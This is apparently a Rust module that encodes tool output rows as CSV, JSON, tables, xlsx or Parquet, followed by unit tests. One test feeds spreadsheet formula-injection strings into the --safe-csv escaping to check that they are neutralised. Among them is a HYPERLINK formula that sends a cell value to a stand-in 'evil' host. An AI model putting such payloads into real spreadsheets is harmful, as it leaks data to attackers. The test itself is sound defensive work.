//! Rows out: CSV (through the csv crate), a JSON array, JSON Lines, an aligned table for a
//! terminal, an xlsx workbook or a Parquet file. Every command hands rows as `Cell`s under a fixed list of column names, so a
//! format is one encoder here and a command never knows which format it writes.
//!
//! Workers encode the rows of each input into a `Fragment` (spilling to a temporary file past
//! a megabyte); one `Document` writes the header, the fragments in input order, and the end.

mod csv;
mod fragment;
mod json;
mod parquet;
mod table;
mod typed;
mod xlsx;

pub use fragment::Fragment;
use std::io::{self, Write};

/// One value of a row, borrowed: no allocation per cell. `None` is an empty CSV cell and a
/// JSON `null`. (Serialized for the typed formats' fragments: `typed`.)
#[derive(Debug, Clone, Copy, PartialEq, serde::Serialize, serde::Deserialize)]
pub enum Cell<'a> {
    Text(#[serde(borrow)] Option<&'a str>),
    Int(Option<i64>),
    Float(Option<f64>),
    Bool(bool),
}

impl From<&'static str> for Cell<'_> {
    fn from(s: &'static str) -> Self {
        Cell::Text(Some(s))
    }
}

impl Cell<'_> {
    /// The text of the cell as CSV and the table show it.
    pub fn write_text(&self, out: &mut String) {
        use std::fmt::Write as _;
        out.clear();
        let _ = match self {
            Cell::Text(Some(s)) => write!(out, "{s}"),
            Cell::Int(Some(n)) => write!(out, "{n}"),
            Cell::Float(Some(x)) => write!(out, "{x}"),
            Cell::Bool(b) => write!(out, "{b}"),
            Cell::Text(None) | Cell::Int(None) | Cell::Float(None) => Ok(()),
        };
    }
}

/// What a column holds, whatever its cells: the type `flakelog columns` documents, which the
/// typed formats (Parquet) give the whole column. Every column may also be empty.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ColumnType {
    Text,
    Integer,
    Number,
    Boolean,
    /// A calendar day, `YYYY-MM-DD`, as text (in CSV and JSON a string); Parquet writes it
    /// as a DATE, and a cell that is no such day as null.
    Date,
}

impl ColumnType {
    /// The JSON Schema type of the column's cells.
    pub fn name(self) -> &'static str {
        match self {
            ColumnType::Text | ColumnType::Date => "string",
            ColumnType::Integer => "integer",
            ColumnType::Number => "number",
            ColumnType::Boolean => "boolean",
        }
    }
}

pub fn text(s: &Option<String>) -> Cell<'_> {
    Cell::Text(s.as_deref())
}

pub fn uint(n: u64) -> Cell<'static> {
    Cell::Int(Some(i64::try_from(n).unwrap_or(i64::MAX)))
}

pub fn opt_uint(n: Option<u64>) -> Cell<'static> {
    Cell::Int(n.map(|n| i64::try_from(n).unwrap_or(i64::MAX)))
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Format {
    Csv,
    Json,
    Jsonl,
    /// Aligned columns fitted to the terminal, with a totals line.
    Table,
    /// An Excel workbook (binary: -o FILE or redirect it): text is never a formula.
    Xlsx,
    /// An Apache Parquet file (binary: -o FILE or redirect it), one typed column per column.
    Parquet,
}

impl Format {
    /// Is it a binary file, never for a terminal?
    pub fn is_binary(self) -> bool {
        matches!(self, Format::Xlsx | Format::Parquet)
    }

    pub fn name(self) -> &'static str {
        match self {
            Format::Csv => "csv",
            Format::Json => "json",
            Format::Jsonl => "jsonl",
            Format::Table => "table",
            Format::Xlsx => "xlsx",
            Format::Parquet => "parquet",
        }
    }
}

/// The last line of a table: how much was read.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Totals {
    /// Every source read (whatever it held, whatever went wrong).
    pub files: u64,
    pub runs: u64,
    pub events: u64,
    pub errors: u64,
    /// Sources read whole in which no regrtest run was found.
    pub without_run: u64,
}

impl std::fmt::Display for Totals {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(
            f,
            "{} files, {} runs, {} events, {} errors, {} files without a run",
            self.files, self.runs, self.events, self.errors, self.without_run
        )
    }
}

/// Encodes rows of one table in one format; each worker has its own.
pub struct RowEncoder {
    encoding: Encoding,
    /// `--columns`: the indices of the cells to write, in order (`None`: all of them).
    select: Option<Vec<usize>>,
}

enum Encoding {
    Csv(Box<csv::CsvEncoder>),
    Json(json::JsonEncoder),
    /// The table, xlsx and Parquet: cells with their types.
    Typed,
}

impl RowEncoder {
    /// Encode one row into `fragment`.
    pub fn row(&mut self, cells: &[Cell<'_>], fragment: &mut Fragment) -> io::Result<()> {
        fragment.rows += 1;
        let picked: Vec<Cell<'_>>;
        let cells = match &self.select {
            None => cells,
            Some(select) => {
                picked = select.iter().map(|&i| cells[i]).collect();
                &picked
            }
        };
        match &mut self.encoding {
            Encoding::Csv(c) => c.row(cells, fragment),
            Encoding::Json(j) => j.row(cells, fragment),
            Encoding::Typed => typed::encode_row(cells, fragment),
        }
    }
}

/// How rows are written.
#[derive(Debug, Clone)]
pub struct Layout {
    pub format: Format,
    /// The columns written, in order.
    pub columns: Vec<String>,
    /// What each of them holds (all text unless told, `with_types`).
    pub types: Vec<ColumnType>,
    /// `--safe-csv`: text cells that start like a formula get a leading `'`.
    pub safe_csv: bool,
    /// `--columns`: which of the command's cells are written (`None`: all).
    select: Option<Vec<usize>>,
}

impl Layout {
    pub fn new(format: Format, columns: &[&str]) -> Layout {
        Layout {
            format,
            columns: columns.iter().map(|c| c.to_string()).collect(),
            types: vec![ColumnType::Text; columns.len()],
            safe_csv: false,
            select: None,
        }
    }

    /// The columns hold these types, one per column, in order.
    pub fn with_types(mut self, types: &[ColumnType]) -> Layout {
        debug_assert_eq!(types.len(), self.columns.len());
        self.types = types.to_vec();
        self
    }

    /// Only the columns `wanted`, in that order; an unknown name is an error that lists the
    /// command's columns.
    pub fn select(mut self, wanted: &[String]) -> Result<Layout, String> {
        let mut select = Vec::with_capacity(wanted.len());
        for w in wanted {
            match self.columns.iter().position(|c| c == w) {
                Some(i) => select.push(i),
                None => {
                    return Err(format!(
                        "no column `{w}` here; the columns are: {}",
                        self.columns.join(", ")
                    ));
                }
            }
        }
        self.columns = select.iter().map(|&i| self.columns[i].clone()).collect();
        self.types = select
            .iter()
            .map(|&i| self.types.get(i).copied().unwrap_or(ColumnType::Text))
            .collect();
        self.select = Some(select);
        Ok(self)
    }

    /// Were the columns chosen (`--columns`)? A table then shows them all.
    pub fn is_chosen(&self) -> bool {
        self.select.is_some()
    }

    pub fn encoder(&self) -> RowEncoder {
        let encoding = match self.format {
            Format::Csv => Encoding::Csv(Box::new(csv::CsvEncoder::new(self.safe_csv))),
            Format::Json => Encoding::Json(json::JsonEncoder::new(&self.columns, true)),
            Format::Jsonl => Encoding::Json(json::JsonEncoder::new(&self.columns, false)),
            Format::Table | Format::Xlsx | Format::Parquet => Encoding::Typed,
        };
        RowEncoder {
            encoding,
            select: self.select.clone(),
        }
    }
}

/// A format written from rows with their types (the table, xlsx, Parquet): it takes the rows
/// as they come, writing to the output as it goes or at the end.
trait TypedRows {
    fn add(&mut self, row: &[Cell<'_>], out: &mut dyn Write) -> io::Result<()>;
    fn finish(self: Box<Self>, totals: &Totals, out: &mut dyn Write) -> io::Result<()>;
}

impl TypedRows for table::TableRows {
    fn add(&mut self, row: &[Cell<'_>], _: &mut dyn Write) -> io::Result<()> {
        table::TableRows::add(self, row);
        Ok(())
    }

    fn finish(self: Box<Self>, totals: &Totals, out: &mut dyn Write) -> io::Result<()> {
        self.render(totals, out)
    }
}

impl TypedRows for xlsx::XlsxRows {
    fn add(&mut self, row: &[Cell<'_>], _: &mut dyn Write) -> io::Result<()> {
        xlsx::XlsxRows::add(self, row)
    }

    fn finish(self: Box<Self>, _: &Totals, out: &mut dyn Write) -> io::Result<()> {
        xlsx::XlsxRows::finish(*self, out)
    }
}

impl TypedRows for parquet::ParquetRows {
    fn add(&mut self, row: &[Cell<'_>], out: &mut dyn Write) -> io::Result<()> {
        parquet::ParquetRows::add(self, row, out)
    }

    fn finish(self: Box<Self>, _: &Totals, out: &mut dyn Write) -> io::Result<()> {
        parquet::ParquetRows::finish(*self, out)
    }
}

/// The output document: its header, the rows in order, its end.
pub struct Document<'w> {
    layout: Layout,
    out: Box<dyn Write + 'w>,
    rows: u64,
    started: bool,
    /// A table's width (`None`: the terminal's).
    width: Option<usize>,
    /// The typed format being written, once started.
    typed: Option<Box<dyn TypedRows>>,
}

impl<'w> Document<'w> {
    pub fn new(layout: Layout, out: impl Write + 'w) -> Self {
        Document {
            layout,
            out: Box::new(out),
            rows: 0,
            started: false,
            width: None,
            typed: None,
        }
    }

    /// A document whose table, if it is one, is `width` columns wide (tests).
    pub fn with_width(layout: Layout, out: impl Write + 'w, width: usize) -> Self {
        let mut d = Document::new(layout, out);
        d.width = Some(width);
        d
    }

    pub fn encoder(&self) -> RowEncoder {
        self.layout.encoder()
    }

    /// The CSV header goes out even when there are no rows: a reader always sees the columns.
    fn start(&mut self) -> io::Result<()> {
        if self.started {
            return Ok(());
        }
        self.started = true;
        let columns = &self.layout.columns;
        self.typed = match self.layout.format {
            Format::Csv => {
                csv::CsvEncoder::new(false).header(columns, &mut self.out)?;
                None
            }
            Format::Table => {
                let width = self.width.unwrap_or_else(table::terminal_width);
                Some(Box::new(
                    table::TableRows::new(columns.clone(), width)
                        .keeping_every_column(self.layout.is_chosen()),
                ))
            }
            Format::Xlsx => Some(Box::new(xlsx::XlsxRows::new(columns.clone())?)),
            Format::Parquet => Some(Box::new(parquet::ParquetRows::new(
                columns,
                &self.layout.types,
            )?)),
            Format::Json | Format::Jsonl => None,
        };
        Ok(())
    }

    /// The rows of `fragment`, after those already written.
    pub fn append(&mut self, fragment: Fragment) -> io::Result<()> {
        self.start()?;
        if fragment.is_empty() {
            return Ok(());
        }
        let first = self.rows == 0;
        self.rows += fragment.rows;
        if let Some(rows) = &mut self.typed {
            let out = &mut self.out;
            return typed::for_each_row(fragment.reader()?, |row| rows.add(row, out));
        }
        match self.layout.format {
            // the array's first row has no separator before it
            Format::Json if first => {
                self.out.write_all(b"[\n")?;
                fragment.copy_to(&mut self.out, json::ARRAY_SEPARATOR.len())
            }
            _ => fragment.copy_to(&mut self.out, 0),
        }
    }

    /// Hand what is written so far to the output (a pipe's reader sees rows as they come).
    pub fn flush(&mut self) -> io::Result<()> {
        self.out.flush()
    }

    /// One row, encoded here.
    pub fn row(&mut self, cells: &[Cell<'_>]) -> io::Result<()> {
        let mut fragment = Fragment::default();
        self.encoder().row(cells, &mut fragment)?;
        self.append(fragment)
    }

    /// Close the document (JSON array, table with its totals line, workbook, Parquet footer)
    /// and flush.
    pub fn finish(mut self, totals: &Totals) -> io::Result<()> {
        self.start()?;
        if let Some(typed) = self.typed.take() {
            typed.finish(totals, &mut self.out)?;
        }
        match self.layout.format {
            Format::Json if self.rows == 0 => self.out.write_all(b"[]\n")?,
            Format::Json => self.out.write_all(b"\n]\n")?,
            _ => {}
        }
        self.out.flush()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const COLUMNS: [&str; 5] = ["source", "line", "detail", "rate", "complete"];

    fn render(format: Format) -> String {
        let mut out = Vec::new();
        {
            let mut d = Document::with_width(Layout::new(format, &COLUMNS), &mut out, 120);
            // two inputs, each encoded by a worker of its own
            let mut enc = d.encoder();
            let mut a = Fragment::default();
            enc.row(
                &[
                    Cell::Text(Some("a.log")),
                    Cell::Int(Some(7)),
                    Cell::Text(Some("+A, \"q\"")),
                    Cell::Float(Some(0.5)),
                    Cell::Bool(true),
                ],
                &mut a,
            )
            .unwrap();
            d.append(a).unwrap();
            d.append(Fragment::default()).unwrap();
            d.row(&[
                Cell::Text(Some("b.log")),
                Cell::Int(None),
                Cell::Text(None),
                Cell::Float(None),
                Cell::Bool(false),
            ])
            .unwrap();
            d.finish(&Totals {
                files: 2,
                runs: 3,
                events: 4,
                errors: 0,
                without_run: 1,
            })
            .unwrap();
        }
        String::from_utf8(out).unwrap()
    }

    #[test]
    fn csv_header_then_rows_none_is_empty() {
        assert_eq!(
            render(Format::Csv),
            "source,line,detail,rate,complete\na.log,7,\"+A, \"\"q\"\"\",0.5,true\nb.log,,,,false\n"
        );
    }

    #[test]
    fn json_array_and_lines_agree_and_none_is_null() {
        let array: serde_json::Value = serde_json::from_str(&render(Format::Json)).unwrap();
        let lines: Vec<serde_json::Value> = render(Format::Jsonl)
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        assert_eq!(array.as_array().unwrap(), &lines);
        assert_eq!(
            lines[0],
            serde_json::json!({"source": "a.log", "line": 7, "detail": "+A, \"q\"", "rate": 0.5, "complete": true})
        );
        assert!(lines[1]["line"].is_null() && lines[1]["detail"].is_null());
        // key order is the column order
        assert!(render(Format::Jsonl).starts_with("{\"source\":\"a.log\",\"line\":7,"));
    }

    #[test]
    fn empty_outputs_are_still_documents() {
        for (format, want) in [
            (Format::Csv, "source,line,detail,rate,complete\n"),
            (Format::Json, "[]\n"),
            (Format::Jsonl, ""),
        ] {
            let mut out = Vec::new();
            Document::new(Layout::new(format, &COLUMNS), &mut out)
                .finish(&Totals::default())
                .unwrap();
            assert_eq!(String::from_utf8(out).unwrap(), want);
        }
    }

    #[test]
    fn safe_csv_keeps_text_from_being_a_formula() {
        let mut out = Vec::new();
        let mut layout = Layout::new(Format::Csv, &["detail", "count"]);
        layout.safe_csv = true;
        let mut d = Document::new(layout, &mut out);
        for text in [
            "=HYPERLINK(\"http://evil/?\"&A2,\"open\")",
            "+SpawnProcess",
            "-Foo",
            "@x",
            "\tx",
            "ok",
        ] {
            d.row(&[Cell::Text(Some(text)), Cell::Int(Some(-3))])
                .unwrap();
        }
        d.finish(&Totals::default()).unwrap();
        let text = String::from_utf8(out).unwrap();
        let cells: Vec<&str> = text.lines().skip(1).collect();
        assert_eq!(
            cells,
            vec![
                "\"'=HYPERLINK(\"\"http://evil/?\"\"&A2,\"\"open\"\")\",-3",
                "'+SpawnProcess,-3",
                "'-Foo,-3",
                "'@x,-3",
                "'\tx,-3",
                "ok,-3",
            ]
        );
    }

    #[test]
    fn table_is_aligned_and_ends_with_totals() {
        let text = render(Format::Table);
        let lines: Vec<&str> = text.lines().collect();
        // numbers are right-aligned under their right-aligned header
        assert_eq!(lines[0].find("line").map(|p| p + 3), lines[1].find('7'));
        assert_eq!(
            lines.last().unwrap(),
            &"2 files, 3 runs, 4 events, 0 errors, 1 files without a run"
        );
    }
}
